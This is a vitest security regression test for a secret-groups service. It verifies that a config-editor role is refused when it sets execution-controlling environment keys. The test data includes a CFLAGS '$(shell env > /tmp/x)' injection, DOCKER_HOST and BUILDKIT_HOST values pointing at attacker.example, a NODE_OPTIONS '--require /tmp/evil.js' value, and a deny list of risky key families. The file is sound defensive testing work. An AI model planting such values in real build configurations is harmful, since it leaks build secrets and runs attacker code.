/**
 * Execution-controlling keys, the attacker's routes of security round 3 (findings 1 and 6),
 * against a real in-process server: a config-editor puts `CFLAGS=$(shell env > FILE)` into a
 * build-scope config group (the documented `sg-agent exec --scope build -- make` would write
 * every build secret to FILE), sets a name the project's admin declared its own, or renames a
 * group to flip the equal-priority tie-break and deliver another group's NODE_OPTIONS.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ListAuditEventsRequest } from '../../gen/secretgroups/v1/access_service.js';
import { GroupType, Scope } from '../../gen/secretgroups/v1/resources.js';
import { ImportFormat } from '../../gen/secretgroups/v1/secret_group_service.js';
import type { Clients } from '../../client/connection.js';
import { api, vars } from '../helpers/api.js';
import { call, codeOf, startTestServer, type TestServer } from '../helpers/in-process.js';
import { dumpStore } from '../helpers/store-dump.js';

const BUILD_SECRET = 'npm-token-canary-5521';
const CONFIG = GroupType.GROUP_TYPE_CONFIG;

let t: TestServer;
let admin: ReturnType<typeof api>;
let editor: ReturnType<typeof api>;
let ce: ReturnType<typeof api>;
let adminClients: Clients;
let editorClients: Clients;
let ceClients: Clients;

async function outcome(p: Promise<unknown>): Promise<{ code: string; message: string }> {
  try {
    await p;
    return { code: 'OK', message: '' };
  } catch (e) {
    const err = e as { details?: string; message: string };
    return { code: await codeOf(Promise.reject(e)), message: err.details ?? err.message };
  }
}

/** PERMISSION_DENIED matching `message`, nothing written, no value in the message. */
async function denied(p: () => Promise<unknown>, message: RegExp) {
  const before = dumpStore(t.dataDir);
  const out = await outcome(p());
  expect(out.code, out.message).toBe('PERMISSION_DENIED');
  expect(out.message).toMatch(message);
  expect(out.message).not.toContain(BUILD_SECRET);
  expect(out.message).not.toContain('shell env');
  expect(dumpStore(t.dataDir), 'a refused call wrote to the store').toBe(before);
}

const executionKeys = (c: Clients, project: string, add: string[], remove: string[] = []) =>
  call<unknown, { project: { executionKeys: string[] } }>(c.projects, 'updateProjectExecutionKeys', { project, add, remove });

beforeAll(async () => {
  t = await startTestServer();
  adminClients = t.admin;
  admin = api(t.admin);
  await admin.createProject('shop');
  await admin.createWorkload({ project: 'shop', name: 'api', buildArguments: { NPM_TOKEN: BUILD_SECRET } });
  await admin.createGroup({ project: 'shop', name: 'build', type: CONFIG, scope: Scope.SCOPE_BUILD, variables: { NODE_ENV: 'production' } });
  const token = async (role: string) => t.as((await admin.createToken({ name: role, role })).token);
  editorClients = await token('editor');
  editor = api(editorClients);
  ceClients = await token('config-editor');
  ce = api(ceClients);
}, 60_000);
afterAll(() => t?.stop());

describe('finding 1: build and runtime families a config-editor may not set', () => {
  it('CFLAGS=$(shell env > /tmp/x) in a build-scope config group is refused, naming the family; an editor may', async () => {
    const evil = { CFLAGS: '$(shell env > /tmp/x)' };
    await denied(() => ce.setVars('shop', 'build', evil), /changing CFLAGS \(build tools\) needs write on secret groups/);
    await denied(
      () => ce.importVars({ project: 'shop', name: 'build', format: ImportFormat.IMPORT_FORMAT_DOTENV, content: "CFLAGS='$(shell env > /tmp/x)'\n" }),
      /CFLAGS \(build tools\)/,
    );
    await denied(() => ce.createGroup({ project: 'shop', name: 'sneaky', type: CONFIG, scope: Scope.SCOPE_BUILD, variables: evil }), /CFLAGS/);
    expect((await vars(admin.resolve('shop', 'api', Scope.SCOPE_BUILD))).CFLAGS).toBeUndefined();
    expect(await codeOf(editor.setVars('shop', 'build', { CFLAGS: '-O2' }))).toBe('OK');
    expect((await vars(admin.resolve('shop', 'api', Scope.SCOPE_BUILD))).CFLAGS).toBe('-O2');
  });

  it.each([
    ['MAKEFILES', 'build tools'],
    ['CMAKE_C_COMPILER_LAUNCHER', 'build tools'],
    ['CCACHE_PREFIX', 'build tools'],
    ['RUSTC_WORKSPACE_WRAPPER', 'build tools'],
    ['UV_INDEX_URL', 'package sources'],
    ['COREPACK_NPM_REGISTRY', 'package sources'],
    ['ERL_AFLAGS', 'interpreter options'],
    ['ELIXIR_ERL_OPTIONS', 'interpreter options'],
    ['GLIBC_TUNABLES', 'loader'],
    ['RES_OPTIONS', 'resolver'],
    ['https_proxy', 'proxy and TLS'],
    ['NODE_TLS_REJECT_UNAUTHORIZED', 'proxy and TLS'],
  ])('a config-editor setting %s is refused (%s)', async (key, family) => {
    await denied(() => ce.setVars('shop', 'build', { [key]: 'x' }), new RegExp(`changing ${key} \\(${family}\\) needs write on secret groups`));
  });

  it('moving a group holding CFLAGS from build to runtime scope is refused to a config-editor', async () => {
    await denied(() => ce.settings({ project: 'shop', name: 'build', scope: Scope.SCOPE_BOTH }), /CFLAGS \(build tools\)/);
    // Ordinary keys of the same group stay editable.
    expect(await codeOf(ce.setVars('shop', 'build', { NODE_ENV: 'staging' }))).toBe('OK');
  });
});

describe('found while verifying round 3: families the review did not name', () => {
  // docs/agent.md documents `sg-agent exec --scope build -- docker build --secret id=NPM_TOKEN,env=NPM_TOKEN …`:
  // a DOCKER_HOST of the config-editor's sends that build, secret included, to the setter's daemon.
  it('DOCKER_HOST=tcp://attacker:2375 in a build-scope config group is refused; an editor may set it', async () => {
    await denied(() => ce.setVars('shop', 'build', { DOCKER_HOST: 'tcp://attacker.example:2375' }), /changing DOCKER_HOST \(container and cluster clients\) needs write on secret groups/);
    await denied(() => ce.createGroup({ project: 'shop', name: 'sneaky-docker', type: CONFIG, scope: Scope.SCOPE_BUILD, variables: { BUILDKIT_HOST: 'tcp://attacker.example:1234' } }), /BUILDKIT_HOST/);
    expect((await vars(admin.resolve('shop', 'api', Scope.SCOPE_BUILD))).DOCKER_HOST).toBeUndefined();
    expect(await codeOf(editor.setVars('shop', 'build', { DOCKER_HOST: 'unix:///run/docker.sock' }))).toBe('OK');
    expect(await codeOf(editor.unsetVars('shop', 'build', ['DOCKER_HOST']))).toBe('OK');
  });

  it.each([
    // node-sass downloads a native binding from here during `npm ci` and loads it.
    ['SASS_BINARY_SITE', 'binary downloads'],
    ['PRISMA_ENGINES_MIRROR', 'binary downloads'],
    // sg, sg-agent and createClient() send their token to SG_ADDR and trust SG_CA.
    ['SG_ADDR', 'secret-groups clients'],
    ['SG_CA', 'secret-groups clients'],
    ['GODEBUG', 'proxy and TLS'],
    ['GIT_TRACE_CURL', 'helper commands'],
    ['PERL_MM_OPT', 'build tools'],
    ['CONDA_CHANNELS', 'package sources'],
  ])('a config-editor setting %s is refused (%s)', async (key, family) => {
    await denied(() => ce.setVars('shop', 'build', { [key]: 'x' }), new RegExp(`changing ${key} \\(${family}\\) needs write on secret groups`));
  });
});

describe("finding 1: a project's own execution-controlling keys", () => {
  it('an admin adds MY_PLUGIN_PATH and ACME_*; a config-editor is then refused, an editor is not', async () => {
    await admin.createGroup({ project: 'shop', name: 'app', type: CONFIG, variables: { LOG_LEVEL: 'info' } });
    expect(await codeOf(ce.setVars('shop', 'app', { MY_PLUGIN_PATH: '/opt/plugins' }))).toBe('OK');
    const updated = await executionKeys(adminClients, 'shop', ['MY_PLUGIN_PATH', 'ACME_*']);
    expect(updated.project.executionKeys).toEqual(['ACME_*', 'MY_PLUGIN_PATH']);
    await denied(() => ce.setVars('shop', 'app', { MY_PLUGIN_PATH: '/tmp/evil' }), /changing MY_PLUGIN_PATH \(project policy MY_PLUGIN_PATH\) needs write on secret groups/);
    await denied(() => ce.setVars('shop', 'app', { ACME_HOOK: '/tmp/evil.sh' }), /ACME_HOOK \(project policy ACME_\*\)/);
    expect(await codeOf(ce.setVars('shop', 'app', { LOG_LEVEL: 'debug' }))).toBe('OK');
    expect(await codeOf(editor.setVars('shop', 'app', { ACME_HOOK: '/opt/acme/hook.sh' }))).toBe('OK');
    // Shown to everyone who may see the project; audited with the entries.
    const got = await call<unknown, { project: { executionKeys: string[] } }>(ceClients.projects, 'getProject', { name: 'shop' });
    expect(got.project.executionKeys).toEqual(['ACME_*', 'MY_PLUGIN_PATH']);
    const audit = await call<unknown, { events: { action: string; keys: string[] }[] }>(adminClients.access, 'listAuditEvents', ListAuditEventsRequest.fromPartial({ project: 'shop', action: 'UpdateProjectExecutionKeys', limit: 10 }));
    expect(audit.events.map((e) => e.keys)).toContainEqual(['ACME_*', 'MY_PLUGIN_PATH']);
    // Removed again, the name is an ordinary key.
    await executionKeys(adminClients, 'shop', [], ['MY_PLUGIN_PATH']);
    expect(await codeOf(ce.setVars('shop', 'app', { MY_PLUGIN_PATH: '/opt/plugins2' }))).toBe('OK');
  });

  it('only an admin may change the list, and only with NAME or PREFIX* entries', async () => {
    for (const c of [editorClients, ceClients]) {
      expect(await codeOf(executionKeys(c, 'shop', ['OTHER_*']))).toBe('PERMISSION_DENIED');
    }
    for (const bad of ['*', 'A*B', '1X', 'has-dash', '*_SUFFIX']) expect(await codeOf(executionKeys(adminClients, 'shop', [bad])), bad).toBe('INVALID_ARGUMENT');
    expect(await codeOf(executionKeys(adminClients, 'shop', [], ['NEVER_ADDED']))).toBe('INVALID_ARGUMENT');
    expect(await codeOf(executionKeys(adminClients, 'shop', Array.from({ length: 101 }, (_, i) => `K${i}`)))).toBe('RESOURCE_EXHAUSTED');
  });
});

describe('finding 6: a rename changes who wins a tie', () => {
  it("a config-editor cannot rename a group holding NODE_OPTIONS to win the tie; an editor can; an ordinary group stays renamable", async () => {
    await admin.createWorkload({ project: 'shop', name: 'web' });
    await admin.createGroup({ project: 'shop', name: 'm-safe', type: CONFIG, priority: 7, variables: { NODE_OPTIONS: '--max-old-space-size=512' } });
    await admin.createGroup({ project: 'shop', name: 'z-evil', type: CONFIG, priority: 7, variables: { NODE_OPTIONS: '--require /tmp/evil.js' } });
    // Equal priority: names ascending, the first group wins.
    expect((await vars(admin.resolve('shop', 'web'))).NODE_OPTIONS).toBe('--max-old-space-size=512');
    await denied(() => call(ceClients.groups, 'renameGroup', { project: 'shop', name: 'z-evil', newName: 'a-evil', expectedRevision: 0 }), /NODE_OPTIONS \(interpreter options\)/);
    expect((await vars(admin.resolve('shop', 'web'))).NODE_OPTIONS).toBe('--max-old-space-size=512');
    await admin.createGroup({ project: 'shop', name: 'plain', type: CONFIG, priority: 7, variables: { GREETING: 'hi' } });
    expect(await codeOf(call(ceClients.groups, 'renameGroup', { project: 'shop', name: 'plain', newName: 'plain-2', expectedRevision: 0 }))).toBe('OK');
    expect(await codeOf(call(editorClients.groups, 'renameGroup', { project: 'shop', name: 'z-evil', newName: 'y-evil', expectedRevision: 0 }))).toBe('OK');
  });
});
